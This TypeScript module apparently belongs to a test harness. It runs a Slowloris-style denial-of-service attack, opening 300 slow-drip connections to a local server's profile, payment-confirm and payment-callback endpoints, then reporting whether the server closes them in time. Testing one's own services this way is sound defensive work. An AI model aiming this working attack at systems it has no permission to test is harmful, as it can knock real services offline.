import { connect, type Socket } from 'node:net'
import { tokenOf } from '../prepare.ts'
import type { Tally } from './tally.ts'
import type { Target } from './target.ts'
import { watchVictim } from './victim.ts'

const CLIENTS = 300
const DRIP_MS = 1000
const CLOSED_WITHIN_MS = 90_000

/** Clients that send a byte a second: a head that does not end, a body that does not end, and nothing at all. */
export async function attackWithSlowClients(target: Target, tally: Tally) {
  const port = Number(new URL(target.url).port)
  const opened = Date.now()
  const begins = [
    'GET /api/user/profile HTTP/1.1\r\nHost: x\r\nX-Slow: ',
    `POST /api/payments/confirm HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${tokenOf(6)}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"type":"`,
    `POST /callbacks/perfect-money HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\nPAYMENT_ID=`,
    '',
  ]
  const clients = Array.from({ length: CLIENTS }, (_, index) => openSlow(port, begins[index % begins.length] ?? ''))
  const figures = await watchVictim(target, tally, async (during) => {
    await new Promise((resolve) => setTimeout(resolve, 2000))
    await during()
  })
  const left = CLOSED_WITHIN_MS - (Date.now() - opened)
  // A connection on which nothing was sent is idle, and costs no more than its socket.
  const closed = await Promise.all(
    clients.filter((_, index) => begins[index % begins.length] !== '').map(({ closed }) => closed(left)),
  )
  for (const { socket } of clients) socket.destroy()
  const held = closed.filter((one) => !one).length
  if (held > 0) tally.finding(`${held} slow clients still hold their connection after ${CLOSED_WITHIN_MS / 1000} s`)
  return { slowClients: CLIENTS, ...figures }
}

function openSlow(port: number, begin: string) {
  const socket: Socket = connect({ host: '127.0.0.1', port }, () => void socket.write(begin))
  const drip = setInterval(() => void (begin !== '' && socket.writable && socket.write('a')), DRIP_MS)
  const gone = new Promise<boolean>((resolve) => {
    socket.once('close', () => {
      clearInterval(drip)
      resolve(true)
    })
  })
  socket.on('error', () => {})
  socket.resume()
  return {
    socket,
    closed: (withinMs: number) =>
      Promise.race([
        gone,
        new Promise<boolean>((resolve) => setTimeout(() => resolve(false), Math.max(0, withinMs)).unref()),
      ]),
  }
}
